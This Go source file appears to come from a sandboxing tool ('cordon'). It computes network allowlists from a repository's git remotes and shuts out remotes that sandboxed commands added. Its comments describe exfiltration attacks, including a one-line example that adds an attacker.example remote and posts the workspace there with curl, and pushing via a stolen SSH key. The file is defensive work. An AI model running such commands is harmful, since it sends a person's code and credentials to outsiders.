package decide

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"

	"github.com/cordonsh/cordon/internal/atomicfile"

	"github.com/cordonsh/cordon/approval"
	"github.com/cordonsh/cordon/gitkey"
	"github.com/cordonsh/cordon/gitstate"
	"github.com/cordonsh/cordon/guard"
	"github.com/cordonsh/cordon/internal/smallfile"
	"github.com/cordonsh/cordon/nethost"
	"github.com/cordonsh/cordon/netproxy"
)

// netAllow is what the network allowlist adds for workspace ws, besides
// the rules: the hosts of the repository's own git remotes (urls, as
// [remoteURLs] lists them: so that git fetch and push reach them) and
// the hosts a person approved for the workspace (cordon approve --host).
// The remotes in agent ([agentRemotes]: not the person's) add none: a
// remote a command added (git remote add x https://attacker.example/)
// would otherwise open its host to the next command, which sends the
// workspace there (curl -d @- ...).
func netAllow(ws, stateDir string, urls []gitkey.Entry, agent []string) []string {
	if ws == "" {
		return nil
	}
	hosts := remoteHosts(personURLs(urls, agent))
	if stateDir != "" {
		hosts = append(hosts, approval.New(stateDir).Hosts(ws)...)
	}
	// An entry the proxy could not read (a remote's odd URL) is left
	// out rather than stop every command.
	out := hosts[:0]
	for _, h := range hosts {
		if netproxy.CheckEntry(h) == nil {
			out = append(out, h)
		}
	}
	return out
}

// remoteHosts returns the hosts of the remotes' urls as allowlist
// entries: each at the port its URL uses (see [remotePort]), or at any
// port for a scheme git hands to a remote helper. insteadOf rewrites
// from other files are not applied.
func remoteHosts(urls []gitkey.Entry) []string {
	var hosts []string
	for _, e := range urls {
		if nethost.Local(e.Value) {
			continue
		}
		port, known := remotePort(e.Value)
		for _, h := range nethost.Hosts(e.Value) {
			// A remote names one host: "*" would be a glob of the rules
			// (https://*/ opening every destination).
			if h == "" || strings.ContainsAny(h, "/\\ *") {
				continue
			}
			if known {
				if strings.Contains(h, ":") && !strings.HasPrefix(h, "[") {
					h = "[" + h + "]"
				}
				h += ":" + strconv.Itoa(port)
			}
			if !slices.Contains(hosts, h) {
				hosts = append(hosts, h)
			}
		}
	}
	return hosts
}

// remotePort is the port git connects to for the remote url: the one
// the URL names, else its scheme's (https 443, http 80, ssh 22, git
// 9418; scp's user@host:path is ssh's). A remote's host is open at that
// port only: at any port, an HTTPS remote's host took a command's own
// SSH key at 22 (github.com: the workspace pushed to the attacker's
// account, past the broker, which refuses a stranger's token at 443).
// known is false for a scheme of a remote helper's (its port is its
// own business).
func remotePort(url string) (port int, known bool) {
	scheme, rest, ok := strings.Cut(url, "://")
	if !ok {
		// scp's [user@]host:path (no "://"): ssh.
		return 22, true
	}
	port, known = schemePorts[strings.ToLower(scheme)]
	if !known {
		return 0, false
	}
	authority := rest
	if i := strings.IndexAny(authority, "/?#\\"); i >= 0 {
		authority = authority[:i]
	}
	if i := strings.LastIndexByte(authority, '@'); i >= 0 {
		authority = authority[i+1:]
	}
	if strings.HasPrefix(authority, "[") {
		if i := strings.IndexByte(authority, ']'); i >= 0 {
			authority = authority[i+1:]
		}
	}
	if _, p, ok := strings.Cut(authority, ":"); ok && p != "" {
		if n, err := strconv.Atoi(p); err == nil && n >= 1 && n <= 65535 {
			port = n
		}
	}
	return port, true
}

// schemePorts are the ports of git's transports by their URL's scheme.
var schemePorts = map[string]int{"https": 443, "http": 80, "ssh": 22, "git+ssh": 22, "ssh+git": 22, "git": 9418}

// remoteURLs returns the url and pushurl entries of the remotes
// (remote.NAME.url, remote.NAME.pushurl) in the repository configuration
// of ws, as git reads the file: listed by the host's git (git names it:
// one outside the directories sandboxed commands can write, see
// [gitstate.ListConfig]), never by a parser of cordon's own. None when
// the file cannot be read, by cordon or by git. The answer is kept in
// the state directory by the file's content (a SHA-256 of it), so that
// a command's start pays for git only when the file changed.
//
// The file is in the workspace, which sandboxed commands write, and the
// guard puts back what they changed only when a command ends (or, in a
// session, as soon as it sees it): a command running beside, or a
// process one left running, can add a url to the person's origin just
// before the next command starts, and the person's credential would
// follow it. So when the guard keeps the file (its ledger of ws), only
// the entries that the file as the guard trusts it has too are taken,
// and when it keeps ws but not the file the workspace's .git leads to
// now, none.
func remoteURLs(ws, stateDir string, git func() (string, error)) []gitkey.Entry {
	urls, _ := repoSettings(ws, stateDir, git)
	return urls
}

// repoSettings is [remoteURLs], and the values of core.hooksPath in the
// same file: those of the file as the guard trusts it too, when it
// differs (a command could set another just before the next command,
// and the person's own hooks directory would not be kept read-only in
// that command's sandbox).
func repoSettings(ws, stateDir string, git func() (string, error)) (urls []gitkey.Entry, hooks []string) {
	if ws == "" {
		return nil, nil
	}
	config := repoConfig(ws)
	data, err := smallfile.ReadFile(config)
	if err != nil {
		return nil, nil
	}
	live, sum := configListing(data, stateDir, ws, git)
	trusted, kept, ledger := guard.TrustedConfig(stateDir, ws, config)
	switch {
	case ledger && !kept:
		// The guard keeps ws, but not this file: a .git file (or its
		// commondir) leads somewhere the guard never took as ws's, as
		// a command can make it lead. None of its remotes is the
		// person's.
		return nil, live.Hooks
	case !kept || trusted == sum:
		return live.URLs, live.Hooks
	}
	var them repoListing
	if trusted != "" {
		if data, ok := guard.TrustedContent(stateDir, ws, config); ok {
			them, _ = configListing(data, stateDir, ws, git)
		}
	}
	urls = slices.DeleteFunc(live.URLs, func(e gitkey.Entry) bool { return !slices.Contains(them.URLs, e) })
	hooks = live.Hooks
	for _, h := range them.Hooks {
		if !slices.Contains(hooks, h) {
			hooks = append(hooks, h)
		}
	}
	return urls, hooks
}

// A repoListing is what [configListing] reads of a configuration file:
// the remotes' url and pushurl entries, the values of core.hooksPath.
type repoListing struct {
	URLs  []gitkey.Entry
	Hooks []string
}

// configListing lists data, the content of ws's configuration file,
// with the host's git, or takes the state directory's cache of the last
// answer for ws, by the content's SHA-256 (hex), which it returns.
func configListing(data []byte, stateDir, ws string, git func() (string, error)) (l repoListing, sum string) {
	h := sha256.Sum256(data)
	sum = hex.EncodeToString(h[:])
	cache := remotesCache(stateDir, ws)
	if l, ok := cachedListing(cache, sum); ok {
		return l, sum
	}
	bin, err := git()
	if err != nil {
		return l, sum
	}
	entries, err := gitstate.ListConfig(bin, data)
	if err != nil {
		return l, sum
	}
	l.URLs = []gitkey.Entry{}
	for _, e := range entries {
		sub := gitkey.Subsection(e.Key)
		name := strings.TrimPrefix(e.Key, sub+".")
		switch {
		case strings.HasPrefix(sub, "remote.") && (name == "url" || name == "pushurl") && !e.Bare:
			l.URLs = append(l.URLs, e)
		case e.Key == "core.hookspath" && !e.Bare && e.Value != "" && !slices.Contains(l.Hooks, e.Value):
			l.Hooks = append(l.Hooks, e.Value)
		}
	}
	if cache != "" {
		if out, err := json.Marshal(remotesFile{Version: remotesVersion, Sum: sum, URLs: l.URLs, Hooks: l.Hooks}); err == nil && os.MkdirAll(filepath.Dir(cache), 0o700) == nil {
			atomicfile.Write(cache, out)
		}
	}
	return l, sum
}

// remotesVersion is the version of [remotesFile] written now; a file of
// another is no answer.
const remotesVersion = 2

// remotesFile is what [configListing] keeps for a workspace: the SHA-256
// of its configuration file and what git read in it.
type remotesFile struct {
	Version int            `json:"v"`
	Sum     string         `json:"sum"`
	URLs    []gitkey.Entry `json:"urls"`
	Hooks   []string       `json:"hooks,omitempty"`
}

// remotesCache is the file in the state directory where [remoteURLs]
// keeps its answer for ws; "" for none.
func remotesCache(stateDir, ws string) string {
	if stateDir == "" {
		return ""
	}
	key := sha256.Sum256([]byte(ws))
	return filepath.Join(stateDir, "remotes", hex.EncodeToString(key[:12])+".json")
}

// cachedListing returns what cache keeps for a configuration file whose
// SHA-256 is sum.
func cachedListing(cache, sum string) (repoListing, bool) {
	if cache == "" {
		return repoListing{}, false
	}
	data, err := smallfile.ReadFile(cache)
	if err != nil {
		return repoListing{}, false
	}
	var f remotesFile
	if json.Unmarshal(data, &f) != nil || f.Version != remotesVersion || f.Sum != sum || f.URLs == nil {
		return repoListing{}, false
	}
	return repoListing{URLs: f.URLs, Hooks: f.Hooks}, true
}

// repoConfig is the configuration file of the repository at ws: in
// .git, or, for a worktree or submodule (.git a file), in the git
// directory it names, or that directory's common one.
func repoConfig(ws string) string { return gitConfigIn(gitDir(ws)) }

// gitConfigIn is the configuration file of the git directory dir: its
// own, or its common directory's; "" for no directory.
func gitConfigIn(dir string) string {
	if dir == "" {
		return ""
	}
	if common, err := smallfile.ReadRegular(filepath.Join(dir, "commondir"), maxConfigSize); err == nil {
		c := strings.TrimSpace(string(common))
		if !filepath.IsAbs(c) {
			c = filepath.Join(dir, c)
		}
		return filepath.Join(c, "config")
	}
	return filepath.Join(dir, "config")
}

// gitDir is the git directory of the repository at ws: .git, or the
// one a .git file names ("" when it names none). The file is read
// without blocking: a command can make it a FIFO.
func gitDir(ws string) string {
	dotgit := filepath.Join(ws, ".git")
	fi, err := os.Lstat(dotgit)
	if err != nil || fi.IsDir() {
		return dotgit
	}
	data, _ := smallfile.ReadRegular(dotgit, maxConfigSize)
	dir, ok := strings.CutPrefix(strings.TrimSpace(string(data)), "gitdir: ")
	if !ok {
		return ""
	}
	if !filepath.IsAbs(dir) {
		dir = filepath.Join(ws, dir)
	}
	return dir
}

// gitRemotes returns the HTTPS remotes (url and pushurl, from urls) of
// the repository at ws, as HOST/PATH (HOST:PORT for another port than
// 443; PATH the repository's, without the slashes around it): own, those
// the person configured, and others, with why they are not the person's
// ("" when all are). A remote a sandboxed command added is not (the
// guard's ledgers keep them), and none of a repository a command made
// is (agent and why, as [agentRemotes] returns them), so that a command
// cannot have the person's credential asked for a repository or host of
// its choosing.
func gitRemotes(urls []gitkey.Entry, agent []string, why string) (own, others []string, _ string) {
	for _, e := range urls {
		u, err := url.Parse(e.Value)
		if err != nil || strings.ToLower(u.Scheme) != "https" || u.Hostname() == "" || strings.ContainsAny(u.Host, "*%") {
			continue
		}
		h := strings.ToLower(u.Host)
		if u.Port() == "443" {
			h = strings.ToLower(u.Hostname())
		}
		r := h + "/" + strings.Trim(u.Path, "/")
		list := &own
		if slices.Contains(agent, remoteName(e)) {
			list = &others
		}
		if !slices.Contains(*list, r) {
			*list = append(*list, r)
		}
	}
	if len(others) == 0 {
		why = ""
	}
	return own, others, why
}

// agentRemotes returns the remotes of the repository at ws that are not
// the person's, and why: those sandboxed commands added (see
// [guard.AgentRemotes]), or, in a repository a command made, every one
// of remotes.
func agentRemotes(stateDir, ws string, remotes func() []string) ([]string, string) {
	if stateDir == "" || ws == "" {
		return nil, ""
	}
	agent, by := guard.AgentRemotes(stateDir, ws, repoConfig(ws))
	if by != "" {
		return remotes(), "the repository " + ws + " was made by a sandboxed command (cordon's guard " + by + "), so its remotes are the command's"
	}
	return agent, "its remotes there were added by sandboxed commands"
}

// personURLs returns the entries of urls of the remotes the person
// configured: not of those in agent.
func personURLs(urls []gitkey.Entry, agent []string) []gitkey.Entry {
	if len(agent) == 0 {
		return urls
	}
	var out []gitkey.Entry
	for _, e := range urls {
		if !slices.Contains(agent, remoteName(e)) {
			out = append(out, e)
		}
	}
	return out
}

// remoteName is the name of the remote whose url or pushurl e is.
func remoteName(e gitkey.Entry) string {
	return strings.TrimPrefix(gitkey.Subsection(e.Key), "remote.")
}

// remoteNames returns the names of the remotes urls are of.
func remoteNames(urls []gitkey.Entry) []string {
	var names []string
	for _, e := range urls {
		if n := remoteName(e); !slices.Contains(names, n) {
			names = append(names, n)
		}
	}
	return names
}
